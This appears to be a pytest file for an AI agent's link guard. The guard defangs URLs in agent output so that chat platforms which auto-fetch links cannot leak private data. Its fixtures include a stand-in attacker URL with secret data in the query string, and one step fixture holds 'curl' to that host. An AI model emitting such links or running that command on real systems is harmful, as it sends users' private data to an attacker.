"""Links in what an agent shows, where the platform fetches them by itself."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path

import pytest

from agent.blocks import Ask, Block, Done, File, Plan, PlanItem, Step, Text, View
from agent.exposure import MAX_SITE_FETCHES, Exposure
from agent.shown_links import LinkGuard
from tests.support.rigs.registry import RIGS

KNOWN, EVIL = "https://known.test/report?of=2026", "https://evil.test/?d=SECRET"
# How each platform is kept from fetching links by itself; "broken": it cannot be told not to.
PREVIEWS = {
    "console": "none", "dingtalk": "none", "dingtalk-markdown": "none", "discord": "flag", "feishu": "none",
    "matrix": "broken", "matrix-encrypted": "broken", "slack": "broken", "telegram": "flag", "web": "none",
    "wechat": "none", "wecom": "none", "whatsapp": "flag",
}  # fmt: skip


async def exposed() -> Exposure:
    """Return what a conversation with a person's file and a page has met. The page has a hundred links of one site."""
    found = Exposure()
    await found.note(private=True)
    await found.note_page(KNOWN, " ".join(f"https://choice.test/{number}" for number in range(100)))
    return found


def shown(exposure: Exposure, blocks: Iterable[Block]) -> View:
    view, guard = View(), LinkGuard(exposure)
    for block in blocks:
        view.add_all(guard.take(block))
    return view


@pytest.mark.parametrize("rig", sorted(RIGS))
async def test_links_are_broken_where_the_platform_fetches_them(rig: str, tmp_path: Path) -> None:
    async with RIGS[rig].start(tmp_path) as started:
        assert started.channel.limits.fetches_links is (PREVIEWS[rig] == "broken")


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"See {EVIL} now.", "See https[:]//evil.test/?d=SECRET now."),
        (f"[here]({EVIL})", "[here](https[:]//evil.test/?d=SECRET)"),
        ("evil.test/?d=SECRET", "evil[.]test/?d=SECRET"),
        ("evil.test:8080/SECRET", "evil[.]test:8080/SECRET"),
        ("bücher.test/SECRET", "bücher[.]test/SECRET"),
        ("看evil.test/SECRET", "看evil[.]test/SECRET"),
        ("看https://evil.test/SECRET", "看https[:]//evil.test/SECRET"),
        ("HTTPS://EVIL.TEST/S\nend", "HTTPS[:]//EVIL.TEST/S\nend"),
        (f"Read {KNOWN}, and src/main.py.", f"Read {KNOWN}, and src/main.py."),
        ("x" * 5000, "x" * 5000),
    ],
)
async def test_an_address_that_nobody_named_is_no_link_in_whatever_pieces_it_comes(
    text: str, expected: str, size: int
) -> None:
    exposure = await exposed()
    pieces = [Text(text[at : at + size], "a") for at in range(0, len(text), size)]
    assert shown(exposure, [*pieces, Done()]).text == expected
    assert shown(exposure, [Text("draft", "a"), Text(text, "a", replace=True), Done()]).text == expected


async def test_before_both_have_met_every_link_stays_as_it_is() -> None:
    for exposure in (Exposure(), Exposure(private=True), Exposure(untrusted=True)):
        assert (
            shown(exposure, [Text("See htt", "a"), Text("ps://evil.test/?d=1", "a"), Done()]).text
            == f"See {EVIL[:-6]}1"
        )


async def test_of_the_links_of_a_site_that_a_page_has_named_a_few_stay() -> None:
    links = "\n".join(f"https://choice.test/{number}" for number in range(20))
    view = shown(await exposed(), [Text(f"{links}\n{links}\n", "a"), Done()])
    assert view.text.count("https://choice") == 2 * MAX_SITE_FETCHES
    assert view.text.count("https[:]//choice") == 2 * (20 - MAX_SITE_FETCHES)


async def test_steps_plans_questions_and_captions_have_no_such_link_either() -> None:
    view = shown(
        await exposed(),
        [
            Text("I see h", "a"),
            Step("s", EVIL, detail=f"bash: curl {EVIL}", output=EVIL),
            Plan((PlanItem(EVIL),)),
            Ask("q", f"Look at {EVIL}?"),
            File("/mnt/user-data/outputs/a", EVIL),
        ],
    )
    assert "I see h" in view.text
    assert "https://" not in repr(view)
